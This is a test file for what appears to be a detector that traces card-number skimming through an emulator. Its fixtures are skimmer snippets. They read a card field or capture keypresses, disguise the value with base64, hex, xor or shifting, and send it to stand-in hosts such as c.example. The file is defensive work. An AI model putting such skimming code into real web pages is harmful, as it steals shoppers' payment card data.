import assert from 'node:assert/strict';
import { flowsOf } from './sandbox-of-tests.ts';

/** Disguises of `n`, and the encodings named in the flow. */
const encodings: [name: string, code: string, chain: string[]][] = [
  ['plain', 'n', []],
  ['base64', 'btoa(n)', ['base64']],
  ['base64 twice', 'btoa(btoa(n))', ['base64', 'base64']],
  [
    'URL-safe base64',
    "btoa('??>' + n).replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=/g, '')",
    ['base64'],
  ],
  ['hexadecimal', "n.split('').map(function (c) { return c.charCodeAt(0).toString(16) }).join('')", ['hex']],
  ['reversed', "n.split('').reverse().join('')", ['reversed']],
  ['character codes', "n.split('').map(function (c) { return c.charCodeAt(0) }).join(',')", ['char-codes']],
  ['URL-encoded base64', 'encodeURIComponent(btoa(n))', []],
  ['JSON in base64', 'btoa(JSON.stringify({ cc: n }))', ['base64']],
  [
    'one-byte xor',
    'n.split("").map(function (c) { return String.fromCharCode(c.charCodeAt(0) ^ 77) }).join("")',
    ['xor'],
  ],
  [
    'shifted',
    'n.split("").map(function (c) { return String.fromCharCode(c.charCodeAt(0) + 5) }).join("")',
    ['shift'],
  ],
];

describe('emulator: encodings seen through', () => {
  for (const [name, code, chain] of encodings) {
    it(name, async () => {
      const flows = await flowsOf(
        `var n = document.querySelector('#cc_number').value; fetch('https://c.example/', { method: 'POST', body: 'd=' + ${code} });`,
      );
      const flow = flows.find(({ field }) => field === 'card-number');
      assert.equal(flow?.proof, 'canary');
      if (chain.length > 0)
        assert.ok(
          chain.every((step) => flow.chain.includes(step)),
          flow.chain.join(),
        );
    });
  }

  it('key presses sent one by one', async () => {
    const flows = await flowsOf(
      "document.addEventListener('keypress', function (e) { new Image().src = 'https://keys.example/k?c=' + e.key; });",
    );
    assert.ok(flows.some(({ field, chain }) => field === 'card-number' && chain[0] === 'split'));
  });

  it('a cipher it cannot undo: the request changes with the shopper', async () => {
    const flows = await flowsOf(`
      var n = document.querySelector('#cc_number').value, h = 0;
      for (var i = 0; i < n.length; i++) h = (h * 31 + n.charCodeAt(i) * 7919) % 1000000007;
      navigator.sendBeacon('https://c.example/', 'k' + h);`);
    assert.deepEqual(
      flows.map(({ field, proof }) => [field, proof]),
      [['card-number', 'dependence']],
    );
  });
});
